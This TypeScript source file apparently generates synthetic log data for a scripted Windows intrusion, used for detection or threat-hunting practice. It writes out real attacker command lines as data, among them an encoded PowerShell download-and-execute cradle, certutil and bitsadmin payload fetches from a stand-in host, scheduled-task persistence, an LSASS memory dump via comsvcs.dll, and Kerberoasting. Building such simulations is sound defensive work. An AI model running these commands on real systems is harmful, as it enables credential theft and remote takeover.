import { type Company, personNamed, serviceAccounts } from './company';
import { createFoothold, type Foothold } from './foothold';
import { hostNamed } from './hosts';
import { copyHashes, saveHives } from './intrusion-hashes';
import { intrusionOnServers } from './intrusion-servers';
import { encodeCommand } from './noise/background-tasks';
import { desktopSession } from './noise/desktop-session';
import { createRandom, type Random } from './random';
import { type Emit, hour, minute, second } from './row';
import { type Process, processRow } from './rows/process';
import { logonRow } from './rows/security-event';
import { serviceTicketRow } from './rows/ticket';
import { adminSid } from './sids';
import { intruder, type StoryClock, victims } from './story';

/** From the opened document to the first administrator's password, then on to the servers. */
export function intrusionOnWindows(company: Company, clock: StoryClock, emit: Emit): void {
  const random = createRandom(company.seed, 'intrusion on Windows');
  const person = personNamed(company, victims.workstationUser);
  const desk = createFoothold(person.workstation, random, emit);
  const explorer = desktopSession(random, person, clock.at('document') - hour);
  const implant = openDocument(desk, explorer, clock, random);
  beacon(desk, implant, clock, random);
  discovery(desk, implant, clock, random);
  persistence(desk, implant, clock);
  administratorHelps(company, desk, clock, random);
  const shell = dumpLsass(desk, implant, clock);
  const hashDesk = createFoothold(person.workstation, createRandom(company.seed, 'hashes'), emit);
  saveHives(hashDesk, shell, clock);
  copyHashes(hashDesk, implant, hostNamed(company.hosts, victims.domainController), clock);
  kerberoast(company, desk, clock, emit);
  intrusionOnServers(company, clock, random, emit, { desk, shell });
}

function openDocument(desk: Foothold, explorer: Process, clock: StoryClock, random: Random): Process {
  const at = clock.at('document');
  const downloads = `C:\\Users\\${victims.workstationUser}\\Downloads`;
  desk.put('DeviceProcessEvents', explorer.created, processRow(random, desk.host, explorer));
  const browser = desk.start(explorer, { file: 'msedge.exe', at: at - 4 * minute });
  desk.change(browser, at - 3 * minute, {
    action: 'FileCreated',
    folder: downloads,
    file: intruder.document,
    size: 184_320,
    originUrl: `https://fernhill.sharepoint.example/sites/Finance/Shared Documents/Suppliers/${intruder.document}`,
  });
  const word = desk.start(explorer, {
    file: 'WINWORD.EXE',
    at,
    commandLine: `"WINWORD.EXE" /n "${downloads}\\${intruder.document}" /o ""`,
  });
  const script = `$u='http://${intruder.loaderName}/a/terms.txt';IEX (New-Object Net.WebClient).DownloadString($u)`;
  const shell = desk.start(word, {
    file: 'powershell.exe',
    at: at + 14 * second,
    commandLine: `powershell.exe -nop -w hidden -ep bypass -enc ${encodeCommand(script)}`,
  });
  desk.connect(shell, at + 16 * second, intruder.controlAddress, 80, intruder.loaderName);

  const download = clock.at('download');
  const certutil = desk.start(shell, {
    file: 'certutil.exe',
    at: download,
    commandLine: `certutil.exe -urlcache -split -f http://${intruder.loaderName}/a/gfx.b64 ${intruder.folder}\\gfx.b64`,
  });
  desk.connect(certutil, download + second, intruder.controlAddress, 80, intruder.loaderName);
  desk.change(certutil, download + 2 * second, {
    action: 'FileCreated',
    folder: intruder.folder,
    file: 'gfx.b64',
    size: 1_204_224,
    originUrl: `http://${intruder.loaderName}/a/gfx.b64`,
    originAddress: intruder.controlAddress,
  });
  const decode = desk.start(shell, {
    file: 'certutil.exe',
    at: download + 8 * second,
    commandLine: `certutil.exe -decode ${intruder.folder}\\gfx.b64 ${intruder.folder}\\${intruder.implant}`,
  });
  desk.change(decode, download + 9 * second, {
    action: 'FileCreated',
    folder: intruder.folder,
    file: intruder.implant,
    size: 903_168,
  });
  desk.start(shell, {
    file: 'bitsadmin.exe',
    at: download + 31 * second,
    commandLine: `bitsadmin /transfer gfxsync /download /priority foreground http://${intruder.loaderName}/a/gfx.cfg ${intruder.folder}\\gfx.cfg`,
  });
  return desk.start(shell, {
    file: intruder.implant,
    folder: intruder.folder,
    at: download + 55 * second,
    commandLine: `${intruder.folder}\\${intruder.implant} -k`,
  });
}

/** Every five minutes with a little jitter while the machine is on; it is left on at night. */
function beacon(desk: Foothold, implant: Process, clock: StoryClock, random: Random): void {
  const end = clock.at('log-cleared') + 8 * hour;
  for (let at = clock.at('beacon'); at < end; at += 5 * minute + random.int(-12, 12) * second)
    desk.connect(implant, at, intruder.controlAddress, 443, intruder.controlName);
}

function discovery(desk: Foothold, implant: Process, clock: StoryClock, random: Random): void {
  let at = clock.at('discovery');
  const shell = desk.start(implant, { file: 'cmd.exe', at, commandLine: 'cmd.exe /q' });
  const commands: [string, string][] = [
    ['whoami.exe', 'whoami /all'],
    ['systeminfo.exe', 'systeminfo'],
    ['ipconfig.exe', 'ipconfig /all'],
    ['net.exe', 'net group "Domain Admins" /domain'],
    ['net.exe', 'net localgroup administrators'],
    ['nltest.exe', 'nltest /dclist:fernhill.example'],
    ['nltest.exe', 'nltest /domain_trusts /all_trusts'],
    ['quser.exe', 'quser'],
    ['tasklist.exe', 'tasklist /v'],
    ['net.exe', 'net view \\\\fh-fs01 /all'],
  ];
  for (const [file, commandLine] of commands) {
    at += random.int(15, 70) * second;
    desk.start(shell, { file, commandLine, at });
  }
}

function persistence(desk: Foothold, implant: Process, clock: StoryClock): void {
  desk.start(implant, {
    file: 'schtasks.exe',
    at: clock.at('user-task'),
    commandLine: `schtasks /create /tn "${intruder.task}" /tr "${intruder.folder}\\${intruder.implant} -k" /sc onlogon /f`,
  });
}

/** Any account may ask for a ticket to any service; asking for all of them at once, in RC4, has one purpose. */
function kerberoast(company: Company, desk: Foothold, clock: StoryClock, emit: Emit): void {
  const controller = hostNamed(company.hosts, victims.domainController);
  for (const [index, service] of serviceAccounts.entries()) {
    const ticket = { sam: victims.workstationUser, from: desk.host, service, encryption: '0x17' } as const;
    emit('SecurityEvent', clock.at('kerberoast') + index * 700, serviceTicketRow(controller, ticket));
  }
}

/** An hour before the dump the administrator signed in to help with a printer: why her password was in memory. */
function administratorHelps(company: Company, desk: Foothold, clock: StoryClock, random: Random): void {
  const admin = personNamed(company, victims.administrator);
  desk.put(
    'SecurityEvent',
    clock.at('lsass') - hour,
    logonRow(desk.host, {
      sam: admin.adminSam ?? '',
      sid: adminSid(admin),
      type: 10,
      logonId: `0x${random.hex(6)}`,
      fromAddress: admin.workstation.address,
      fromHost: admin.workstation.name,
    }),
  );
}

function dumpLsass(desk: Foothold, implant: Process, clock: StoryClock): Process {
  const at = clock.at('lsass');
  const shell = desk.start(implant, { file: 'cmd.exe', at, commandLine: 'cmd.exe /q', integrity: 'High' });
  desk.start(shell, {
    file: 'tasklist.exe',
    at: at + 5 * second,
    commandLine: 'tasklist /fi "imagename eq lsass.exe"',
  });
  const dump = desk.start(shell, {
    file: 'rundll32.exe',
    at: at + 21 * second,
    commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 ${intruder.folder}\\gfx.dmp full`,
  });
  desk.change(dump, at + 23 * second, {
    action: 'FileCreated',
    folder: intruder.folder,
    file: 'gfx.dmp',
    size: 61_440_000,
  });
  const archive = desk.start(shell, {
    file: '7z.exe',
    at: at + 2 * minute,
    commandLine: `"C:\\Program Files\\7-Zip\\7z.exe" a -pgfx2026 ${intruder.folder}\\g.7z ${intruder.folder}\\gfx.dmp`,
  });
  desk.change(archive, at + 2 * minute + 4 * second, {
    action: 'FileCreated',
    folder: intruder.folder,
    file: 'g.7z',
    size: 9_830_400,
  });
  desk.change(shell, at + 4 * minute, {
    action: 'FileDeleted',
    folder: intruder.folder,
    file: 'gfx.dmp',
    size: 61_440_000,
  });
  return shell;
}
